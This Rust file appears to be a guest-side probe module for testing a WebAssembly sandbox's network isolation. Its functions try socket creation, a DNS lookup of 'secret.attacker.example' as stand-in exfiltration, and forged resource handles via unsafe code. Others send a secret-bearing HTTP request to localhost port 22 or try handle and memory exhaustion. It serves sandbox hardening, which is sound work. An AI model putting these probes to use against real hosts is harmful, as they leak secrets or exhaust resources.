//! The network, called by hand: interfaces that the host links because standard libraries import them, and that reach nothing.

use guest_sdk::Failure;
use guest_sdk::serde_json::{Value, json};
use wasip2::http::outgoing_handler;
use wasip2::http::types::{
    Fields, FutureIncomingResponse, Method, OutgoingRequest, OutgoingResponse, RequestOptions, Scheme,
};
use wasip2::sockets::network::{IpAddressFamily, IpSocketAddress, Ipv4SocketAddress, Network};
use wasip2::sockets::{instance_network, ip_name_lookup, tcp, tcp_create_socket, udp, udp_create_socket};

pub(crate) fn attack(name: &str) -> Option<Result<Value, Failure>> {
    Some(Ok(match name {
        "network-sockets" => sockets(),
        "network-names" => names(),
        "network-forged-socket" => forged_socket(),
        "network-forged-datagram" => forged_datagram(),
        "network-http" => http(),
        "network-http-answer" => http_answer(),
        "network-forged-response" => forged_response(),
        "network-handles" => handles(),
        "network-header" => header(),
        _ => return None,
    }))
}

const HERE: IpSocketAddress = IpSocketAddress::Ipv4(Ipv4SocketAddress { port: 22, address: (127, 0, 0, 1) });

fn sockets() -> Value {
    let (v4, v6) = (IpAddressFamily::Ipv4, IpAddressFamily::Ipv6);
    let tcp = |family| tcp_create_socket::create_tcp_socket(family).map(drop).map_err(|code| code.name());
    let udp = |family| udp_create_socket::create_udp_socket(family).map(drop).map_err(|code| code.name());
    json!([tcp(v4), tcp(v6), udp(v4), udp(v6)])
}

/// Resolves names that a host's own files answer, addresses, and a name that carries a secret to an attacker's name server.
fn names() -> Value {
    let network = instance_network::instance_network();
    let resolve =
        |name: &str| ip_name_lookup::resolve_addresses(&network, name).map(drop).map_err(|code| code.name());
    let answers = ["localhost", "127.0.0.1", "::1", "secret.attacker.example", ""].map(resolve);
    json!(answers)
}

/// Uses a socket that was never opened.
fn forged_socket() -> Value {
    // SAFETY: none. That is the attack.
    let (socket, network) = unsafe { (tcp::TcpSocket::from_handle(1), Network::from_handle(1)) };
    json!({ "survived": socket.start_connect(&network, HERE).is_ok() })
}

/// Uses the handle of a network as a socket.
fn forged_datagram() -> Value {
    let network = instance_network::instance_network();
    // SAFETY: none. That is the attack.
    let socket = unsafe { udp::UdpSocket::from_handle(network.handle()) };
    json!({ "survived": socket.stream(Some(HERE)).is_ok() })
}

fn http() -> Value {
    let headers = Fields::new();
    let listed = Fields::from_list(&[("authorization".to_owned(), b"secret".to_vec())]).is_ok();
    let set = headers.append("authorization", b"secret").is_ok();
    let kept = headers.clone().entries().len();
    let request = OutgoingRequest::new(headers);
    let settings = [
        request.set_method(&Method::Post),
        request.set_scheme(Some(&Scheme::Http)),
        request.set_authority(Some("127.0.0.1:22")),
        request.set_path_with_query(Some("/?secret")),
    ];
    let (said, body) = (request.path_with_query(), request.body().is_ok());
    let options = RequestOptions::new();
    let timeout = options.set_connect_timeout(Some(1)).is_ok();
    let sent = outgoing_handler::handle(request, Some(options)).map(drop).map_err(|code| format!("{code:?}"));
    let settings = settings.map(|set| set.is_ok());
    json!({
        "headers": (listed, set), "kept": kept, "settings": settings, "said": said, "body": body, "timeout": timeout, "sent": sent,
    })
}

/// Answers a request that never arrived.
fn http_answer() -> Value {
    let response = OutgoingResponse::new(Fields::new());
    let status = response.set_status_code(200).is_ok();
    json!({ "status": status, "code": response.status_code(), "body": response.body().is_ok() })
}

/// Reads the response to a request that was never sent.
fn forged_response() -> Value {
    let request = OutgoingRequest::new(Fields::new());
    // SAFETY: none. That is the attack.
    let response = unsafe { FutureIncomingResponse::from_handle(request.handle()) };
    json!({ "survived": response.get().is_some() })
}

/// Makes handles with a call that never fails.
fn handles() -> Value {
    let fields: Vec<Fields> = (0..1_000_000).map(|_| Fields::new()).collect();
    json!({ "survived": fields.len() })
}

/// Appends a header of eight megabytes, for which a host would allocate many times as much.
fn header() -> Value {
    let value = vec![b'a'; 8 << 20];
    json!({ "survived": Fields::new().append("x", &value).is_ok() })
}
